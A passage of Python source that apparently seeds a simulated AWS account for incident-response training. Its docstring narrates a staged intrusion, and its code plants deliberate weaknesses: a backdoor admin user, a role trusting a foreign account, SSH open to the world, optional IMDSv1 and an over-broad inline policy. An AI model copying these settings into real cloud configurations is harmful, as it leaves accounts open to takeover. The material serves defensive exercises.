# SPDX-License-Identifier: Apache-2.0
"""The seeded incident: an account before, while and after it was attacked.

The story, all times before the incident's "now" (UTC):
  -26 h  a request forgery in the web server reads the instance role's keys
  -25 h  the keys are used from 198.51.100.23: who am I, buckets, users
  -24 h  user svc-metrics with a key and AdministratorAccess; the password of
         another user is reset; a security group opens port 22 to the world
  -20 h  the data volume is snapshotted, the snapshot shared with a foreign
         account; a parameter with a database password is read
  -18 h  miners start in eu-north-1 and ap-southeast-2
  -17 h  the trail is stopped; a function's code is replaced
   -6 h  a finding; -5 h the trail is started again by a responder
Addresses are from the documentation ranges; no name is a person's.
"""
import base64
import datetime
import json

from . import trail
from .world import Cred, tags

ACCOUNT = "123456789012"
CLOSED = "456789012345"
OTHERS = (("210987654321", "workloads-staging", "sandbox"),
          ("345678901234", "log-archive", "security"))
FOREIGN = "999988887777"
ATTACKER = "198.51.100.23"
OFFICE = "203.0.113.10"
HOME = "us-east-1"

AWS_POLICIES = {
    "AdministratorAccess": [{"Effect": "Allow", "Action": "*",
                             "Resource": "*"}],
    "ReadOnlyAccess": [{"Effect": "Allow", "Resource": "*", "Action": [
        "ec2:Describe*", "ec2:Get*", "iam:Get*", "iam:List*", "s3:Get*",
        "s3:List*", "cloudtrail:*", "kms:Describe*", "kms:Get*", "kms:List*",
        "lambda:Get*", "lambda:List*", "organizations:Describe*",
        "organizations:List*", "ssm:Describe*", "ssm:Get*", "ssm:List*",
        "iam:GenerateCredentialReport",
        "iam:GenerateServiceLastAccessedDetails", "iam:Simulate*",
        "ebs:ListSnapshotBlocks", "ebs:ListChangedBlocks",
        "sts:GetCallerIdentity", "sts:GetAccessKeyInfo"]}],
    "SecurityAudit": [{"Effect": "Allow", "Resource": "*", "Action": [
        "ec2:Describe*", "iam:Get*", "iam:List*",
        "iam:GenerateCredentialReport", "cloudtrail:Describe*",
        "cloudtrail:LookupEvents", "kms:List*", "s3:GetBucket*",
        "s3:ListAllMyBuckets"]}],
    "AmazonSSMManagedInstanceCore": [
        {"Effect": "Allow", "Resource": "*", "Action": [
            "ssm:DescribeAssociation", "ssm:GetDocument", "ssm:GetManifest",
            "ssm:GetParameter", "ssm:GetParameters", "ssm:ListAssociations",
            "ssm:UpdateInstanceInformation", "ssmmessages:*",
            "ec2messages:*"]}],
    "AmazonS3ReadOnlyAccess": [{"Effect": "Allow", "Resource": "*",
                                "Action": ["s3:Get*", "s3:List*"]}],
    "CloudWatchAgentServerPolicy": [
        {"Effect": "Allow", "Resource": "*", "Action": [
            "cloudwatch:PutMetricData", "ec2:DescribeVolumes",
            "ec2:DescribeTags", "logs:PutLogEvents"]}],
    "IAMUserChangePassword": [
        {"Effect": "Allow", "Action": ["iam:ChangePassword"],
         "Resource": ["arn:aws:iam::*:user/${aws:username}"]},
        {"Effect": "Allow", "Action": ["iam:GetAccountPasswordPolicy"],
         "Resource": "*"}],
}


def doc(*statements):
    return {"Version": "2012-10-17", "Statement": list(statements)}


def allow(actions, resources="*", **cond):
    s = {"Effect": "Allow", "Action": actions, "Resource": resources}
    if cond:
        s["Condition"] = cond["condition"]
    return s


def trust(principal, action="sts:AssumeRole", **more):
    s = {"Effect": "Allow", "Principal": principal, "Action": action}
    s.update(more)
    return doc(s)


class Seeder:
    def __init__(self, world, users, extra_events):
        self.w = world
        self.users = users
        self.extra_events = extra_events
        self.ids = world.ids
        self.t = world.reference
        self.acct = world.account(ACCOUNT)
        self.home = self.acct.regions[HOME]

    def ago(self, **kw):
        return self.t - datetime.timedelta(**kw)

    # ------------------------------------------------------------------ iam

    def user(self, name, created, attached=(), inline=None, groups=(),
             path="/", login=None, tag=None):
        u = {"Path": path, "UserName": name, "UserId": self.ids.iam("AIDA"),
             "Arn": "arn:aws:iam::%s:user%s%s" % (ACCOUNT, path, name),
             "CreateDate": created, "Tags": tag or [], "_inline":
                 inline or {}, "_attached": list(attached), "_groups":
                 list(groups), "_keys": {}, "_mfa": []}
        if login:
            u["_login"] = {"CreateDate": login,
                           "PasswordResetRequired": False}
        self.acct.users[name] = u
        return u

    def key(self, user, created, status="Active", last=None, secret=None):
        u = self.acct.users[user]
        k = self.ids.iam("AKIA")
        self.w.add_key(Cred(k, secret or self.ids.secret(), ACCOUNT,
                            user=user, created=created))
        u["_keys"][k] = {"AccessKeyId": k, "Status": status,
                         "CreateDate": created}
        if last:
            u["_keys"][k]["_last"] = last
        return k

    def role(self, name, trusted, attached=(), inline=None, path="/",
             account=None, session=3600, description="", tag=None,
             last=None):
        number = account or ACCOUNT
        r = {"Path": path, "RoleName": name, "RoleId": self.ids.iam("AROA"),
             "Arn": "arn:aws:iam::%s:role%s%s" % (number, path, name),
             "CreateDate": self.ago(days=320), "AssumeRolePolicyDocument":
                 trusted, "Description": description,
             "MaxSessionDuration": session, "Tags": tag or [],
             "_inline": inline or {}, "_attached": list(attached)}
        if last:
            r["RoleLastUsed"] = {"LastUsedDate": last, "Region": HOME}
        self.w.account(number).roles[name] = r
        return r

    def policy(self, name, versions, path="/", aws=False, created=None,
               description=""):
        owner = "aws" if aws else ACCOUNT
        arn = "arn:aws:iam::%s:policy%s%s" % (owner, path, name)
        vs = []
        n = len(versions)
        for i, d in enumerate(versions, 1):
            vs.append({"VersionId": "v%d" % i, "Document": d,
                       "IsDefaultVersion": i == n, "CreateDate":
                           (created or self.ago(days=300)) +
                           datetime.timedelta(days=i)})
        p = {"PolicyName": name, "PolicyId": self.ids.iam("ANPA"),
             "Arn": arn, "Path": path, "DefaultVersionId": "v%d" % n,
             "IsAttachable": True, "CreateDate": vs[0]["CreateDate"],
             "UpdateDate": vs[-1]["CreateDate"],
             "Description": description, "_versions": vs[::-1]}
        (self.w.aws_policies if aws else self.acct.policies)[arn] = p
        return arn

    def iam(self):
        a, t = self.acct, self
        for name, st in AWS_POLICIES.items():
            self.policy(name, [doc(*st)], aws=True,
                        created=datetime.datetime(2019, 3, 1, 12, 0,
                                                  tzinfo=self.t.tzinfo))
        aws = "arn:aws:iam::aws:policy/"
        a.aliases.append("northwind-prod")
        a.counters.update(created=t.ago(days=1200),
                          root_used=t.ago(days=211))
        a.password_policy = {
            "MinimumPasswordLength": 14, "RequireSymbols": True,
            "RequireNumbers": True, "RequireUppercaseCharacters": True,
            "RequireLowercaseCharacters": True,
            "AllowUsersToChangePassword": True, "ExpirePasswords": True,
            "MaxPasswordAge": 90, "PasswordReusePrevention": 5,
            "HardExpiry": False}
        deploy = self.policy("deploy-pipeline", [
            doc(allow(["s3:PutObject"], ["arn:aws:s3:::northwind-assets/*"])),
            doc(allow(["s3:PutObject", "s3:GetObject"],
                      ["arn:aws:s3:::northwind-assets/*"])),
            doc(allow(["s3:*", "lambda:UpdateFunctionCode",
                       "ec2:RunInstances", "iam:PassRole"]))],
            description="What the deployment pipeline may do")
        ops = self.policy("operations", [
            doc(allow(["ec2:*", "ssm:*", "cloudwatch:*"]))], path="/teams/")
        boundary = self.policy("developer-boundary", [
            doc(allow(["ec2:Describe*", "s3:*", "lambda:*", "logs:*"]))])
        backup = self.policy("backup-operator", [
            doc(allow(["ec2:CreateSnapshot", "ec2:CreateSnapshots",
                       "ec2:CreateTags", "ec2:DeleteSnapshot",
                       "ec2:Describe*"]))])
        responder = self.policy("incident-responder", [doc(
            allow(["ec2:Describe*", "ec2:Get*", "cloudtrail:LookupEvents",
                   "cloudtrail:Describe*", "cloudtrail:Get*",
                   "cloudtrail:List*", "iam:Get*", "iam:List*",
                   "s3:ListAllMyBuckets", "s3:GetBucket*",
                   "lambda:ListFunctions", "ssm:Describe*",
                   "sts:GetCallerIdentity"]),
            {"Effect": "Deny", "Action": ["iam:GetCredentialReport",
                                          "iam:GetAccountPasswordPolicy"],
             "Resource": "*"})],
            description="Read only, and not everything: a first responder "
            "before the incident role is granted")
        for n in ("administrators", "developers", "operators"):
            a.groups[n] = {"Path": "/", "GroupName": n,
                           "GroupId": self.ids.iam("AGPA"),
                           "Arn": "arn:aws:iam::%s:group/%s" % (ACCOUNT, n),
                           "CreateDate": t.ago(days=900), "_inline": {},
                           "_attached": []}
        a.groups["administrators"]["_attached"].append(
            aws + "AdministratorAccess")
        a.groups["developers"]["_attached"].append(aws + "ReadOnlyAccess")
        a.groups["developers"]["_inline"]["own-logs"] = doc(allow(
            ["logs:Get*", "logs:FilterLogEvents"],
            ["arn:aws:logs:*:%s:log-group:/apps/*" % ACCOUNT]))
        a.groups["operators"]["_attached"].append(ops)

        self.user("breakglass-admin", t.ago(days=800),
                  groups=["administrators"], login=t.ago(days=60),
                  tag=tags(purpose="break glass"))
        a.users["breakglass-admin"]["PasswordLastUsed"] = t.ago(hours=5)
        self.admin = self.key("breakglass-admin", t.ago(days=30))
        self.user("responder", t.ago(days=200), attached=[responder])
        self.responder = self.key("responder", t.ago(days=12))
        self.user("ci-deployer", t.ago(days=700), attached=[deploy],
                  path="/automation/", tag=tags(owner="platform"))
        self.ci = self.key("ci-deployer", t.ago(days=411),
                           last=(t.ago(hours=2), "s3", HOME))
        self.key("ci-deployer", t.ago(days=690), "Inactive",
                 last=(t.ago(days=412), "s3", HOME))
        self.user("backup-operator", t.ago(days=650), attached=[backup],
                  inline={"copy-only": doc(allow("ec2:CopySnapshot"))})
        self.backup = self.key("backup-operator", t.ago(days=101),
                               last=(t.ago(hours=9), "ec2", HOME))
        self.user("report-reader", t.ago(days=500), groups=["developers"],
                  login=t.ago(hours=23, minutes=40))
        a.users["report-reader"]["PasswordLastUsed"] = t.ago(hours=23)
        a.users["report-reader"]["PermissionsBoundary"] = {
            "PermissionsBoundaryType": "Policy",
            "PermissionsBoundaryArn": boundary}
        a.users["report-reader"]["_ssh"] = [
            {"UserName": "report-reader", "SSHPublicKeyId":
             self.ids.iam("APKA"), "Status": "Active",
             "UploadDate": t.ago(days=300)}]
        a.users["ci-deployer"]["_ssc"] = [
            {"UserName": "ci-deployer", "Status": "Active",
             "ServiceUserName": "ci-deployer-at-" + ACCOUNT,
             "CreateDate": t.ago(days=600), "ServiceSpecificCredentialId":
                 self.ids.iam("ACCA"),
             "ServiceName": "codecommit.amazonaws.com"}]
        # what the attacker left
        self.user("svc-metrics", t.ago(hours=24, minutes=31),
                  attached=[aws + "AdministratorAccess"])
        self.backdoor = self.key("svc-metrics", t.ago(hours=24, minutes=30),
                                 last=(t.ago(hours=16, minutes=58),
                                       "lambda", HOME))
        for n in range(1, self.users + 1):      # so that lists have pages
            self.user("dev-%02d" % n, t.ago(days=400 - n),
                      groups=["developers"], path="/developers/",
                      login=t.ago(days=40) if n % 3 else None)
            if n % 4 == 0:
                self.key("dev-%02d" % n, t.ago(days=200 - n),
                         last=(t.ago(days=n), "s3", "eu-west-1")
                         if n % 8 == 0 else None)
        for who, code in (("breakglass-admin", "123456"),
                          ("report-reader", "654321")):
            s = "arn:aws:iam::%s:mfa/%s" % (ACCOUNT, who)
            a.mfa[s] = {"EnableDate": t.ago(days=180), "_user": who,
                        "_code": code}
            a.users[who]["_mfa"].append(s)
        a.mfa["arn:aws:iam::%s:mfa/root-account-mfa-device" % ACCOUNT] = {
            "EnableDate": t.ago(days=1100), "_user": "root", "_code": "-"}
        a.mfa["arn:aws:iam::%s:mfa/spare" % ACCOUNT] = {"EnableDate": None,
                                                        "_code": "-"}
        saml = "arn:aws:iam::%s:saml-provider/corporate" % ACCOUNT
        a.saml[saml] = {
            "Arn": saml, "CreateDate": t.ago(days=640),
            "ValidUntil": t.ago(days=-3000), "Tags": [],
            "SAMLMetadataDocument": '<?xml version="1.0"?><EntityDescriptor '
            'entityID="https://idp.example.com/saml" '
            'xmlns="urn:oasis:names:tc:SAML:2.0:metadata"/>'}
        oidc = ("arn:aws:iam::%s:oidc-provider/token.actions.example.com" %
                ACCOUNT)
        a.oidc[oidc] = {"Url": "token.actions.example.com",
                        "ClientIDList": ["sts.amazonaws.com"],
                        "ThumbprintList": [self.ids.hex(40)],
                        "CreateDate": t.ago(days=333), "Tags": []}
        cid = self.ids.iam("ASCA")
        a.certs["www"] = {
            "Path": "/cloudfront/", "ServerCertificateName": "www",
            "ServerCertificateId": cid, "Arn": "arn:aws:iam::%s:server-"
            "certificate/cloudfront/www" % ACCOUNT,
            "UploadDate": t.ago(days=70), "Expiration": t.ago(days=-295)}
        ec2 = {"Service": "ec2.amazonaws.com"}
        self.web = self.role(
            "web-frontend-role", trust(ec2), attached=[
                aws + "AmazonSSMManagedInstanceCore",
                aws + "CloudWatchAgentServerPolicy"],
            inline={"assets": doc(allow(["s3:GetObject", "s3:ListBucket",
                                         "s3:ListAllMyBuckets"])),
                    "bootstrap": doc(allow([
                        "iam:*", "ec2:*", "cloudtrail:*", "ssm:*",
                        "lambda:*", "sts:*", "kms:Describe*", "kms:List*",
                        "ebs:*", "organizations:Describe*"]))},
            description="Role of the web servers", last=t.ago(hours=17),
            tag=tags(app="web"))
        self.role("batch-worker-role", trust(ec2), attached=[
            aws + "AmazonS3ReadOnlyAccess"], last=t.ago(hours=1))
        self.role("AWSBackupDefaultServiceRole",
                  trust({"Service": "backup.amazonaws.com"}),
                  path="/service-role/", attached=[backup],
                  last=t.ago(hours=8))
        self.role("report-function-role",
                  trust({"Service": "lambda.amazonaws.com"}),
                  inline={"logs": doc(allow("logs:*"))},
                  last=t.ago(hours=16))
        self.role("AWSServiceRoleForConfig",
                  trust({"Service": "config.amazonaws.com"}),
                  path="/aws-service-role/config.amazonaws.com/")
        self.role("AWSServiceRoleForOrganizations",
                  trust({"Service": "organizations.amazonaws.com"}),
                  path="/aws-service-role/organizations.amazonaws.com/")
        self.role("incident-response",
                  trust({"AWS": "arn:aws:iam::%s:root" % ACCOUNT}),
                  attached=[aws + "AdministratorAccess"], session=43200,
                  description="Assumed by responders")
        self.role("incident-response-mfa",
                  trust({"AWS": "arn:aws:iam::%s:root" % ACCOUNT},
                        Condition={"Bool": {
                            "aws:MultiFactorAuthPresent": "true"}}),
                  attached=[aws + "AdministratorAccess"])
        self.role("ci-federated", trust(
            {"Federated": oidc}, "sts:AssumeRoleWithWebIdentity"),
            attached=[deploy])
        self.role("corporate-admin", trust(
            {"Federated": saml}, "sts:AssumeRoleWithSAML"),
            attached=[aws + "ReadOnlyAccess"])
        # a backdoor in a trust policy
        r = self.role("support-access", trust(
            {"AWS": ["arn:aws:iam::%s:root" % FOREIGN]}),
            attached=[aws + "SecurityAudit"])
        r["CreateDate"] = t.ago(hours=19)
        for n in range(1, 13):
            self.role("app-%02d-role" % n, trust(ec2), attached=[
                aws + "AmazonS3ReadOnlyAccess"] if n % 2 else [],
                last=t.ago(days=n) if n % 3 else None)
        for n in ("web-frontend-role", "batch-worker-role"):
            a.profiles[n] = {
                "Path": "/", "InstanceProfileName": n,
                "InstanceProfileId": self.ids.iam("AIPA"),
                "Arn": "arn:aws:iam::%s:instance-profile/%s" % (ACCOUNT, n),
                "CreateDate": t.ago(days=320), "_roles": [n]}
        for number, name, _ in OTHERS:
            o = self.w.account(number)
            o.counters.update(created=t.ago(days=900),
                              root_used=t.ago(days=300))
            for rn in ("OrganizationAccountAccessRole",
                       "incident-response"):
                self.role(rn, trust({"AWS": "arn:aws:iam::%s:root" %
                                     ACCOUNT}, ["sts:AssumeRole",
                                                "sts:TagSession"]
                                    if rn == "incident-response" else
                                    "sts:AssumeRole"), account=number,
                          attached=[aws + "AdministratorAccess"])

        # its sessions do not show that it has a path
        self.role("auditor", trust({"AWS": "arn:aws:iam::%s:root" % ACCOUNT},
                                   ["sts:AssumeRole", "sts:TagSession"]),
                  path="/security/", attached=[aws + "ReadOnlyAccess"])
        # not of the organization, and its role lets nobody from here in
        self.w.account(CLOSED)
        self.role("incident-response", trust(
            {"AWS": "arn:aws:iam::%s:root" % CLOSED}), account=CLOSED)

    # ------------------------------------------------------------------ ec2

    def network(self, region, cidr="10.0"):
        reg = self.acct.regions[region]
        ids, own = self.ids, {"OwnerId": ACCOUNT}
        vpc = ids.ec2("vpc")
        dhcp = ids.ec2("dopt")
        reg.all("dhcp")[dhcp] = {
            "DhcpOptionsId": dhcp, "OwnerId": ACCOUNT, "Tags": [],
            "DhcpConfigurations": [
                {"Key": "domain-name", "Values": [
                    {"Value": "ec2.internal" if region == HOME else
                     region + ".compute.internal"}]},
                {"Key": "domain-name-servers",
                 "Values": [{"Value": "AmazonProvidedDNS"}]}]}
        reg.all("vpcs")[vpc] = dict(
            own, VpcId=vpc, CidrBlock=cidr + ".0.0/16", State="available",
            InstanceTenancy="default", IsDefault=region != HOME,
            DhcpOptionsId=dhcp, CidrBlockAssociationSet=[
                {"AssociationId": ids.ec2("vpc-cidr-assoc"),
                 "CidrBlock": cidr + ".0.0/16",
                 "CidrBlockState": {"State": "associated"}}],
            Tags=tags(Name="production") if region == HOME else [])
        subnets = []
        for n, z in enumerate("ab"):
            s = ids.ec2("subnet")
            subnets.append(s)
            reg.all("subnets")[s] = dict(
                own, SubnetId=s, VpcId=vpc, State="available",
                CidrBlock="%s.%d.0/24" % (cidr, n),
                AvailableIpAddressCount=240, AvailabilityZone=region + z,
                AvailabilityZoneId="%s-az%d" % (
                    "use1" if region == HOME else "x", n + 1),
                DefaultForAz=region != HOME, MapPublicIpOnLaunch=n == 0,
                AssignIpv6AddressOnCreation=False,
                Ipv6CidrBlockAssociationSet=[],
                SubnetArn="arn:aws:ec2:%s:%s:subnet/%s" % (region, ACCOUNT,
                                                           s),
                Tags=tags(Name=("public" if n == 0 else "private")))
        igw = ids.ec2("igw")
        reg.all("igws")[igw] = dict(own, InternetGatewayId=igw, Attachments=[
            {"State": "available", "VpcId": vpc}], Tags=[])
        acl = ids.ec2("acl")
        entry = [{"CidrBlock": "0.0.0.0/0", "Egress": e, "Protocol": "-1",
                  "RuleAction": act, "RuleNumber": num}
                 for e in (True, False)
                 for num, act in ((100, "allow"), (32767, "deny"))]
        reg.all("acls")[acl] = dict(
            own, NetworkAclId=acl, VpcId=vpc, IsDefault=True, Entries=entry,
            Associations=[{"NetworkAclAssociationId":
                           ids.ec2("aclassoc"), "NetworkAclId": acl,
                           "SubnetId": s} for s in subnets], Tags=[])
        sg = self.group(region, vpc, "default", "default VPC security group",
                        [])
        return vpc, subnets, igw, sg

    def group(self, region, vpc, name, desc, perms, tag=None):
        reg = self.acct.regions[region]
        gid = self.ids.ec2("sg")
        full = []
        for proto, lo, hi, cidrs, src in perms:
            full.append({
                "IpProtocol": proto, "FromPort": lo, "ToPort": hi,
                "IpRanges": [{"CidrIp": c, "Description": d} if d else
                             {"CidrIp": c} for c, d in cidrs],
                "Ipv6Ranges": [], "PrefixListIds": [],
                "UserIdGroupPairs": [{"GroupId": g, "UserId": ACCOUNT}
                                     for g in src]})
        g = {"GroupId": gid, "GroupName": name, "Description": desc,
             "OwnerId": ACCOUNT, "VpcId": vpc, "IpPermissions": full,
             "IpPermissionsEgress": [
                 {"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}],
                  "Ipv6Ranges": [], "PrefixListIds": [],
                  "UserIdGroupPairs": []}],
             "Tags": tag or [], "SecurityGroupArn":
                 "arn:aws:ec2:%s:%s:security-group/%s" % (region, ACCOUNT,
                                                          gid)}
        reg.all("groups")[gid] = g
        for egress, side in ((False, full), (True,
                                             g["IpPermissionsEgress"])):
            for perm in side:
                for r in perm["IpRanges"]:
                    rid = self.ids.ec2("sgr")
                    reg.all("rules")[rid] = {
                        "SecurityGroupRuleId": rid, "GroupId": gid,
                        "GroupOwnerId": ACCOUNT, "IsEgress": egress,
                        "IpProtocol": perm["IpProtocol"],
                        "FromPort": perm.get("FromPort", -1),
                        "ToPort": perm.get("ToPort", -1),
                        "CidrIpv4": r["CidrIp"], "Tags": [],
                        "SecurityGroupRuleArn": "arn:aws:ec2:%s:%s:security-"
                        "group-rule/%s" % (region, ACCOUNT, rid)}
        return gid

    def volume(self, region, zone, size, tag=None, snapshot="", kms=None,
               attach=None):
        vid = self.ids.ec2("vol")
        v = {"VolumeId": vid, "Size": size, "VolumeType": "gp3",
             "Iops": 3000, "Throughput": 125, "Encrypted": bool(kms),
             "AvailabilityZone": region + zone, "SnapshotId": snapshot,
             "State": "in-use" if attach else "available",
             "CreateTime": self.ago(days=90 + size), "MultiAttachEnabled":
                 False, "Attachments": [], "Tags": tag or []}
        if kms:
            v["KmsKeyId"] = kms
        if attach:
            iid, dev, boot = attach
            v["Attachments"] = [{
                "VolumeId": vid, "InstanceId": iid, "Device": dev,
                "State": "attached", "AttachTime": v["CreateTime"],
                "DeleteOnTermination": boot}]
        self.acct.regions[region].all("volumes")[vid] = v
        return v

    def instance(self, region, net, name, itype, image, zone="a", ip=None,
                 public=None, groups=(), role=None, disks=((8, True),),
                 launched=None, key=None, tag=None, kms=None,
                 state="running", user_data=None, eni2=False):
        vpc, subnets = net[0], net[1]
        reg = self.acct.regions[region]
        subnet = subnets[0 if zone == "a" else 1]
        iid = self.ids.ec2("i")
        launched = launched or self.ago(days=90)
        gs = [{"GroupId": g, "GroupName": reg.all("groups")[g]["GroupName"]}
              for g in groups or (net[3],)]
        root = "/dev/xvda"
        maps = []
        for n, (size, boot) in enumerate(disks):
            dev = root if n == 0 else "/dev/sd%s" % "fghijk"[n - 1]
            v = self.volume(region, zone, size, tags(
                Name="%s%s" % (name, "" if n == 0 else "-data"),
                backup="daily"), kms=kms if n else None,
                attach=(iid, dev, boot))
            v["CreateTime"] = launched
            v["Attachments"][0]["AttachTime"] = launched
            maps.append({"DeviceName": dev, "Ebs": {
                "VolumeId": v["VolumeId"], "Status": "attached",
                "AttachTime": launched, "DeleteOnTermination": boot}})
        nis = []
        for n in range(2 if eni2 else 1):
            eid = self.ids.ec2("eni")
            mac = "0a:" + ":".join(self.ids.hex(2) for _ in range(5))
            addr = ip if n == 0 else ip.rsplit(".", 1)[0] + ".200"
            att = {"AttachmentId": self.ids.ec2("eni-attach"),
                   "DeviceIndex": n, "NetworkCardIndex": 0,
                   "Status": "attached", "AttachTime": launched,
                   "DeleteOnTermination": n == 0}
            dns = "ip-%s.ec2.internal" % addr.replace(".", "-")
            pip = {"PrivateIpAddress": addr, "Primary": True,
                   "PrivateDnsName": dns}
            assoc = None
            if public and n == 0:
                assoc = {"PublicIp": public, "IpOwnerId": ACCOUNT,
                         "PublicDnsName": "ec2-%s.compute-1.amazonaws.com" %
                         public.replace(".", "-")}
                pip["Association"] = dict(assoc)
            ni = {"NetworkInterfaceId": eid, "MacAddress": mac,
                  "SubnetId": subnet, "VpcId": vpc, "OwnerId": ACCOUNT,
                  "PrivateIpAddress": addr, "PrivateDnsName": dns,
                  "PrivateIpAddresses": [pip], "Groups": gs,
                  "Status": "in-use", "SourceDestCheck": True,
                  "InterfaceType": "interface", "Description":
                      "" if n == 0 else "management", "Ipv6Addresses": []}
            nis.append(dict(ni, Attachment=att) | (
                {"Association": assoc} if assoc else {}))
            reg.all("enis")[eid] = dict(
                ni, AvailabilityZone=region + zone, RequesterManaged=False,
                Attachment=dict(att, InstanceId=iid,
                                InstanceOwnerId=ACCOUNT), TagSet=tags(
                    Name=name), **({"Association": assoc} if assoc else {}))
        i = {"InstanceId": iid, "ImageId": image, "InstanceType": itype,
             "State": {"Code": 16, "Name": "running"} if state == "running"
             else {"Code": 80, "Name": "stopped"}, "AmiLaunchIndex": 0,
             "LaunchTime": launched, "Placement": {
                 "AvailabilityZone": region + zone, "GroupName": "",
                 "Tenancy": "default"}, "Monitoring": {"State": "disabled"},
             "SubnetId": subnet, "VpcId": vpc, "PrivateIpAddress": ip,
             "PrivateDnsName": nis[0]["PrivateDnsName"],
             "PublicDnsName": nis[0].get("Association", {}).get(
                 "PublicDnsName", ""), "StateTransitionReason": "",
             "Architecture": "x86_64", "BlockDeviceMappings": maps,
             "EbsOptimized": True, "EnaSupport": True,
             "Hypervisor": "xen", "RootDeviceName": root,
             "RootDeviceType": "ebs", "SecurityGroups": gs,
             "SourceDestCheck": True, "VirtualizationType": "hvm",
             "NetworkInterfaces": nis, "ClientToken": self.ids.uuid(),
             "CpuOptions": {"CoreCount": 1, "ThreadsPerCore": 2},
             "MetadataOptions": {
                 "State": "applied", "HttpTokens": "required"
                 if name != "web-01" else "optional",
                 "HttpPutResponseHopLimit": 1, "HttpEndpoint": "enabled",
                 "HttpProtocolIpv6": "disabled",
                 "InstanceMetadataTags": "enabled"},
             "Tags": tags(Name=name) + (tag or []),
             "_reservation": self.ids.ec2("r"), "_user_data": user_data,
             "_console": "[    0.000000] Linux version 6.1.0 (simulated)\n"
             "[    1.204211] nvme nvme0: 2/0/0 default/read/poll queues\n"
             "[   11.500113] cloud-init[612]: Cloud-init finished\n"
             "%s login: \n" % name}
        if public:
            i["PublicIpAddress"] = public
        if key:
            i["KeyName"] = key
        if role:
            i["IamInstanceProfile"] = {
                "Arn": self.acct.profiles[role]["Arn"],
                "Id": self.acct.profiles[role]["InstanceProfileId"]}
            aid = self.ids.ec2("iip-assoc")
            reg.all("profiles")[aid] = {
                "AssociationId": aid, "InstanceId": iid, "State":
                    "associated", "IamInstanceProfile":
                    i["IamInstanceProfile"]}
        reg.all("instances")[iid] = i
        return i

    def snapshot(self, region, vol, days, desc, tag=None):
        sid = self.ids.ec2("snap")
        t = self.ago(days=days, minutes=self.ids.r.randrange(50))
        s = {"SnapshotId": sid, "VolumeId": vol["VolumeId"],
             "State": "completed", "StartTime": t, "Progress": "100%",
             "OwnerId": ACCOUNT, "Description": desc,
             "VolumeSize": vol["Size"], "Encrypted": vol["Encrypted"],
             "StorageTier": "standard", "Tags": tag or [],
             "CompletionTime": t + datetime.timedelta(minutes=4)}
        if vol.get("KmsKeyId"):
            s["KmsKeyId"] = vol["KmsKeyId"]
        self.acct.regions[region].all("snapshots")[sid] = s
        return s

    def image(self, region, name, days, owner=ACCOUNT):
        iid = self.ids.ec2("ami")
        alias = {} if owner == ACCOUNT else {"ImageOwnerAlias": "amazon"}
        self.acct.regions[region].all("images")[iid] = dict(
            alias, ImageId=iid, Name=name, Description=name + " image",
            OwnerId=owner, State="available", Architecture="x86_64",
            CreationDate=self.ago(days=days).strftime(
                "%Y-%m-%dT%H:%M:%S.000Z"), ImageLocation="%s/%s" % (owner,
                                                                    name),
            ImageType="machine", Public=owner != ACCOUNT,
            PlatformDetails="Linux/UNIX", UsageOperation="RunInstances",
            Hypervisor="xen", VirtualizationType="hvm", EnaSupport=True,
            RootDeviceName="/dev/xvda", RootDeviceType="ebs",
            SriovNetSupport="simple", BootMode="uefi-preferred",
            ImdsSupport="v2.0", BlockDeviceMappings=[
                {"DeviceName": "/dev/xvda", "Ebs": {
                    "DeleteOnTermination": True, "Encrypted": False,
                    "SnapshotId": self.ids.ec2("snap"), "VolumeSize": 8,
                    "VolumeType": "gp3"}},
                {"DeviceName": "/dev/sdb", "VirtualName": "ephemeral0"}],
            Tags=tags(Name=name))
        return iid

    def ec2(self):
        reg, ids = self.home, self.ids
        net = self.net = self.network(HOME)
        vpc, subnets, igw, default = net
        self.kms_key = ids.uuid()
        kms = self.kms_arn = "arn:aws:kms:%s:%s:key/%s" % (HOME, ACCOUNT,
                                                           self.kms_key)
        web = self.web_sg = self.group(
            HOME, vpc, "web-frontend", "HTTP from the world", [
                ("tcp", 443, 443, [("0.0.0.0/0", "https")], []),
                ("tcp", 80, 80, [("0.0.0.0/0", "http")], []),
                ("tcp", 22, 22, [("10.0.0.0/16", "admin"),
                                 ("0.0.0.0/0", "")], [])],
            tags(Name="web-frontend", team="web"))
        db = self.group(HOME, vpc, "database", "PostgreSQL from the web", [
            ("tcp", 5432, 5432, [], [web])])
        batch = self.group(HOME, vpc, "batch", "batch workers", [
            ("tcp", 22, 22, [("10.0.0.0/16", "")], [])])
        self.quarantine = self.group(HOME, vpc, "quarantine",
                                     "no way in, no way out", [])
        reg.all("groups")[self.quarantine]["IpPermissionsEgress"] = []
        for rid, r in list(reg.all("rules").items()):
            if r["GroupId"] == self.quarantine:
                del reg.all("rules")[rid]
        kp = ids.ec2("key")
        reg.all("keypairs")[kp] = {
            "KeyPairId": kp, "KeyName": "web-2025", "KeyType": "ed25519",
            "KeyFingerprint": base64.b64encode(bytes(
                ids.r.getrandbits(8) for _ in range(32))).decode(),
            "CreateTime": self.ago(days=500), "Tags": []}
        kp = ids.ec2("key")
        reg.all("keypairs")[kp] = {
            "KeyPairId": kp, "KeyName": "tmp-access", "KeyType": "rsa",
            "KeyFingerprint": ":".join(ids.hex(2) for _ in range(20)),
            "CreateTime": self.ago(hours=23, minutes=50), "Tags": []}
        ami = self.image(HOME, "web-frontend-2026.04", 120)
        base = self.image(HOME, "al2023-ami-2023.9.20260401-x86_64", 200,
                          "137112412989")
        self.image(HOME, "batch-worker-17", 300)
        user_data = ("#!/bin/bash\n# web server bootstrap\nset -e\n"
                     "dnf -y install nginx\naws s3 cp "
                     "s3://northwind-assets/web/latest.tar.gz /srv/\n"
                     "export DB_HOST=db.prod.internal\n"
                     "systemctl enable --now nginx\n")
        w = self.victim = self.instance(
            HOME, net, "web-01", "m5d.large", ami, ip="10.0.0.10",
            public="192.0.2.44", groups=(web,), role="web-frontend-role",
            disks=((8, True), (20, False)), launched=self.ago(days=47),
            key="web-2025", kms=kms, user_data=user_data, eni2=True,
            tag=tags(app="web", env="production", team="web"))
        w["_console"] += (
            "[88211.003121] audit: kauditd hold queue overflow\n"
            "[90102.772001] kworkerds[31337]: segfault at 0 ip "
            "00000000004011d2 sp 00007ffc2b2f error 4\n"
            "web-01 login: root\n")
        eip = ids.ec2("eipalloc")
        reg.all("eips")[eip] = {
            "AllocationId": eip, "PublicIp": "192.0.2.44", "Domain": "vpc",
            "InstanceId": w["InstanceId"], "AssociationId":
                ids.ec2("eipassoc"), "NetworkInterfaceId":
                w["NetworkInterfaces"][0]["NetworkInterfaceId"],
